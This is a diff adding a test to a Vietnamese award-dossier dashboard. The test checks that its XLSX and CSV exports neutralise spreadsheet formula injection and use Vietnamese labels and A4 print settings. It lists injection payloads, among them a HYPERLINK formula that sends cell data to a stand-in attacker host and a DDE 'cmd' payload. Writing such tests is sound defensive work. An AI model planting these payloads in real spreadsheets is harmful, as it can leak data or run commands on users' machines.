@@ -64,3 +64,59 @@ def test_the_csv_is_utf8_with_a_bom_and_one_line_per_unit(client, env):
     rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
     assert rows[0][:2] == ["Xã", "Đơn vị"] and len(rows) == 13
     assert client.get("/dashboard/2026/export.csv?table=passwords").status_code == 422
+
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0",
+           "+1+1", "-2+3", "\t=1+2", "\r=1+2"]
+
+
+def _clerk_typed_formulas() -> tuple[str, list[str]]:
+    """What clerks typed: a report number and awardees' names that look like formulas."""
+    from sqlalchemy import select
+
+    from storage.db import write_session
+    from storage.models import Dossier, Nominee, Report
+
+    with write_session() as s:
+        report = s.scalars(select(Report).join(Dossier).where(Dossier.state == "approved",
+                                                              Report.status == "done")).first()
+        report.fields = {**(report.current_fields or {}), "number": ATTACKS[0]}
+        for c in report.corrections:
+            c.fields = {**c.fields, "number": ATTACKS[0]}
+        names = []
+        nominees = s.scalars(select(Nominee).join(Dossier).where(Dossier.state == "approved",
+                                                                 Nominee.verdict == "accepted")).all()
+        for n, attack in zip(nominees, ATTACKS[1:]):
+            n.name = attack
+            names.append(attack)
+        return ATTACKS[0], names
+
+
+def test_formula_like_text_is_written_as_text_in_xlsx_and_csv_with_vietnamese_labels(client, env):
+    """Issue 14 #4 (formula injection) and issue 11 (Vietnamese labels, a print setup)."""
+    from workflows import demo_year
+
+    demo_year.generate(12)
+    number, names = _clerk_typed_formulas()
+    login(client, "congan")
+    wb = load_workbook(io.BytesIO(client.get("/dashboard/2026/export.xlsx").data))
+    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in [number] + names:
+        assert text in cells, text
+        assert cells[text].data_type == "s", f"{text!r} is written as a formula"
+    kinds = {row[2] for row in wb["Đơn vị"].iter_rows(min_row=2, values_only=True)}
+    assert kinds and not kinds & {"school", "hamlet", "enterprise", "agency", "organisation"}, kinds
+    assert kinds & {"Trường học", "Xóm, khu dân cư"}
+    for ws in wb:
+        assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == "9"   # A4
+        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
+
+    for table in ("units", "awards"):
+        rows = list(csv.reader(io.StringIO(client.get(f"/dashboard/2026/export.csv?table={table}")
+                                           .data.decode("utf-8-sig"))))
+        values = [v for row in rows for v in row]
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), table
+        if table == "units":
+            assert "'" + number in values and not {r[2] for r in rows[1:]} & {"school", "hamlet"}
+        else:
+            assert all("'" + n in values for n in names)
